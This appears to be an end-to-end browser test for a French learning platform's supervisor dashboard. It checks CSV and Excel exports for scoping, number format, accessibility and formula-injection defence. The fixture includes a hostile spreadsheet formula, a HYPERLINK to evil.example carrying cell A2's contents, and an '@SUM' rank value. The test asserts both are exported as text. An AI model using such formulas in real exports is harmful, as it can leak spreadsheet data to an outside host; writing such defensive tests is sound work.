"""A supervisor exports, on a phone and on a desktop: signs in, filters the dashboard by course,
exports CSV then Excel (each a background job with its progress page), downloads both files.
The files hold the filtered rows of their units only, numbers as French writes them, and
names that look like formulas as text; axe finds nothing serious on the dashboard, the
filtered dashboard (the export's form) and the job's page, at both sizes."""

import csv
import io
import re
from datetime import timedelta
from pathlib import Path

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from accounts.tests.factories import LearnerFactory, SupervisorFactory
from courses import services as course_services
from courses.models import Enrollment
from courses.tests.factories import course_build
from lms.tests.test_accessibility import axe_check
from tracking.exports import COLUMN_INDEX as COL

from .factories import tree_build

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&A2,"Voir")'


@pytest.fixture
def scene(wagtail_site, role_groups, settings, tmp_path):
    """Two courses; in Mopti's scope a graded learner (81.5455 %) and one whose name and rank
    are formulas; outside it, a learner of Ségou in the same course."""
    from quizzes.models import QuizGrade
    from quizzes.tests.factories import quiz_make

    settings.MEDIA_ROOT = str(tmp_path)
    settings.CELERY_TASK_ALWAYS_EAGER = True  # the export job runs in the server's thread
    tree = tree_build()
    course_services.course_tree_setup()
    course = course_build(title="Garde à vue et droits de la défense", modules=1, lessons=1)
    other = course_build(title="Sécurité numérique des OPJ", modules=1, lessons=1)
    SupervisorFactory(matricule="SUP-MOP", supervised_units=[tree.mopti], full_name="Cdt Diarra")
    awa = LearnerFactory(matricule="OPJ-SEV", unit=tree.sevare, full_name="Awa Traoré")
    hostile = LearnerFactory(
        matricule="OPJ-MOP", unit=tree.mopti, full_name=FORMULA_NAME, rank="@SUM(1+1)"
    )
    sira = LearnerFactory(matricule="OPJ-SEG", unit=tree.segou, full_name="Sira Diallo")
    due = timezone.localdate() + timedelta(days=10)
    for learner in (awa, hostile, sira):
        Enrollment.objects.create(learner=learner, course=course, due_date=due)
    Enrollment.objects.create(learner=awa, course=other, due_date=due)  # filtered out
    for index, percent in enumerate(("82.091", "81.000")):
        QuizGrade.objects.create(
            learner=awa,
            quiz=quiz_make(course, title=f"Quiz {index}"),
            course=course,
            percent=percent,
        )
    return course


def _sign_in(page, matricule):
    page.context.clear_cookies()
    page.goto("/connexion/")
    page.get_by_label("Matricule").fill(matricule)
    page.get_by_label("Mot de passe").fill("motdepasse-test")
    page.locator("main").get_by_role("button", name="Se connecter").click()
    page.wait_for_url("**/suivi/")


def _export(page, button, label):
    """Clicks an export button, checks the job's page, downloads the file: (name, bytes)."""
    page.get_by_role("button", name=button).click()
    page.wait_for_url(re.compile(r"/taches/\d+/$"))
    main = page.locator("main").inner_text()
    assert "Terminée" in main and "2 lignes exportées." in main, main
    axe_check(page, label)
    with page.expect_download() as info:
        page.get_by_role("link", name=re.compile("^Télécharger kalan-suivi-")).click()
    return info.value.suggested_filename, Path(info.value.path()).read_bytes()


@pytest.mark.parametrize(("width", "height"), [(390, 844), (1366, 768)])
def test_a_supervisor_filters_and_exports_csv_and_excel(page, scene, page_shots, width, height):
    course = scene
    page.set_viewport_size({"width": width, "height": height})
    _sign_in(page, "SUP-MOP")
    axe_check(page, f"tableau de suivi ({width})")
    main = page.locator("main").inner_text()
    assert "Awa Traoré" in main and "Sira Diallo" not in main

    # Filter by course: the form is a fold-out, closed until asked for.
    page.locator("details.filters > summary").click()
    page.get_by_label("Formation", exact=True).select_option(label=course.title)
    page.get_by_role("button", name="Appliquer").click()
    page.wait_for_url(re.compile(r"/suivi/\?.*course="))
    filtered_url = page.url
    assert page.locator("details.filters").get_attribute("open") is not None
    assert "2 inscriptions" in page.locator("main").inner_text()
    axe_check(page, f"formulaire d’export ({width})")
    # page_shots photographs both sizes: once is enough, from the phone's run.
    shots = page_shots if width == 390 else (lambda page, name: None)
    shots(page, "export-formulaire")
    page.set_viewport_size({"width": width, "height": height})

    # CSV, written for French: `;` between cells, a decimal comma, formulas as text.
    name, data = _export(page, "Exporter (CSV)", f"tâche d’export CSV ({width})")
    shots(page, "export-tache-csv")
    page.set_viewport_size({"width": width, "height": height})
    assert name.startswith("kalan-suivi-") and name.endswith(".csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert [rows[0][COL[name]] for name in ("matricule", "name", "rank")] == [
        "Matricule",
        "Nom",
        "Grade",
    ]
    by_matricule = {row[COL["matricule"]]: row for row in rows[1:]}
    assert set(by_matricule) == {"OPJ-SEV", "OPJ-MOP"}  # Ségou is not theirs
    assert {row[COL["course"]] for row in rows[1:]} == {course.title}  # the filter holds
    assert by_matricule["OPJ-SEV"][COL["grade"]] == "81,5"
    assert by_matricule["OPJ-MOP"][COL["name"]] == "'" + FORMULA_NAME
    assert by_matricule["OPJ-MOP"][COL["rank"]] == "'@SUM(1+1)"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)

    # Excel, from the same filtered page.
    page.goto(filtered_url)
    name, data = _export(page, "Exporter (Excel)", f"tâche d’export Excel ({width})")
    shots(page, "export-tache-xlsx")
    assert name.startswith("kalan-suivi-") and name.endswith(".xlsx")
    sheet = load_workbook(io.BytesIO(data)).active
    cells = {row[COL["matricule"]].value: row for row in sheet.iter_rows(min_row=2)}
    assert set(cells) == {"OPJ-SEV", "OPJ-MOP"}
    grade, name = cells["OPJ-SEV"][COL["grade"]], cells["OPJ-MOP"][COL["name"]]
    assert grade.value == 81.5 and grade.data_type == "n"
    assert name.value == "'" + FORMULA_NAME
    assert name.data_type == "s"
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
